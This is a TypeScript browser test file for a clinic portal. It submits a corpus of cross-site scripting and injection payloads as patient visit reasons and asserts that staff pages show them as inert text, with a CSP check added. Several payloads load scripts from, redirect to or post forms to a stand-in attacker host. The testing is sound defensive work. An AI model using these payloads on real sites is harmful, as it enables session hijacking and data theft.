/** What a patient writes is text wherever staff read it. */
import { expect } from 'chai'
import { openWindow } from '../support/browser.js'
import { openPractice, type TestPractice } from '../support/practice.js'
import { appointmentPage } from './pages/patient.js'
import { declinePage, hallPage, panelPage, queuePage, staffAppointmentPage } from './pages/staff.js'
import { requestVisit } from './visits.js'

const CORPUS = [
  `<script>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `"><svg onload=alert(1)>`,
  `'><script src=//evil.example/x.js></script>`,
  `</textarea><script>alert(1)</script>`,
  `</title><script>alert(1)</script>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<body onload=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<a href="javascript:alert(1)">results</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<button hx-get="/portal" hx-trigger="load" hx-on:load="alert(1)">x</button>`,
  `<form action="//evil.example"><input name=_csrf></form>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<div hx-swap-oob="innerHTML:#flash">gone</div>`,
  `<%= 7 * 7 %> {{7*7}} \${7*7}`,
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `\u202e<script>alert(1)</script>\u0000\ufeff`,
]

describe('A reason that is an attack', function () {
  this.timeout(90_000)
  let practice: TestPractice

  before(async () => {
    practice = await openPractice()
    await practice.setting('openRequestLimit', '50')
  })
  after(() => practice.leave())

  it('is read as text by staff, on every page that shows it', async () => {
    const requests: { eid: number; payload: string }[] = []
    const visitor = await practice.patientVisitor('john')
    for (const [at, payload] of CORPUS.entries()) {
      const minutes = 9 * 60 + at * 15 + (at >= 12 ? 60 : 0)
      const time = `${String(Math.floor(minutes / 60)).padStart(2, '0')}:${String(minutes % 60).padStart(2, '0')}`
      requests.push({
        eid: await requestVisit(practice, { visitor, date: '2026-11-24', time, reason: payload }),
        payload,
      })
    }
    const staff = await openWindow(practice, { as: { staff: 'admin' } })
    const scripts = () =>
      staff.page.evaluate<number>(`document.querySelectorAll('script:not([src^="/assets/"])').length`)
    const foreign = () =>
      staff.page.evaluate<number>(
        `document.querySelectorAll('iframe, base, meta[http-equiv], style, main [onload], main [onerror], main [hx-on\\\\:load]').length`,
      )
    const clean = async () => {
      expect(await scripts()).to.equal(0)
      expect(await foreign()).to.equal(0)
    }

    await staff.open('/staff/portal')
    const hall = await hallPage(staff)
    for (const { eid, payload } of requests)
      expect(squeezed(await hall.row(eid).innerText())).to.contain(squeezed(payload))
    await clean()

    await staff.open('/staff/portal/appointments')
    const queue = await queuePage(staff)
    await clean()
    // The same rows, swapped in by htmx.
    const [first, second] = requests
    await queue.confirm(first?.eid ?? 0)
    await queue.row(first?.eid ?? 0).waitFor({ state: 'detached' })
    expect(await queue.row(second?.eid ?? 0).count()).to.equal(1)
    await clean()

    for (const { eid, payload } of requests) {
      await staff.page.goto(`${staff.origin}/staff/portal/appointments/${eid}`)
      expect(squeezed(await staff.page.locator('main').innerText())).to.contain(squeezed(payload))
      await clean()
    }
    await staffAppointmentPage(staff)
    await staff.open(`/staff/portal/appointments/${second?.eid ?? 0}/decline`)
    const decline = await declinePage(staff)
    await clean()
    await decline.reason.fill(`<img src=x onerror=alert(2)>`)
    await decline.send()
    await queuePage(staff)
    await staff.open(`/staff/portal/patients/${practice.patients.john}`)
    await panelPage(staff)
    await clean()

    const patient = await openWindow(practice, { as: { patient: 'john' } })
    await patient.open(`/portal/records/${practice.records.john}/appointments/${second?.eid ?? 0}`)
    expect(await (await appointmentPage(patient, 'declined')).text()).to.contain('<img src=x onerror=alert(2)>')
  })

  it('would be seen here if a page let it through', async () => {
    const staff = await openWindow(practice, { as: { staff: 'admin' } })
    await staff.context.route('**/staff/portal', async (route) => {
      const answer = await route.fetch()
      const body = (await answer.text()).replace('<main', `${CORPUS[0] ?? ''}${CORPUS[1] ?? ''}<main`)
      await route.fulfill({ response: answer, body })
    })
    await staff.open('/staff/portal')
    await staff.page.waitForLoadState('load')
    expect(staff.troubles.splice(0).join('\n'))
      .to.match(/inline script/)
      .and.to.match(/inline event handler/)
  })

  // HTML and innerText lay out white space in their own ways; controls are not shown.
  function squeezed(text: string): string {
    return text.replaceAll('\u0000', '').replace(/\s+/g, '')
  }
})
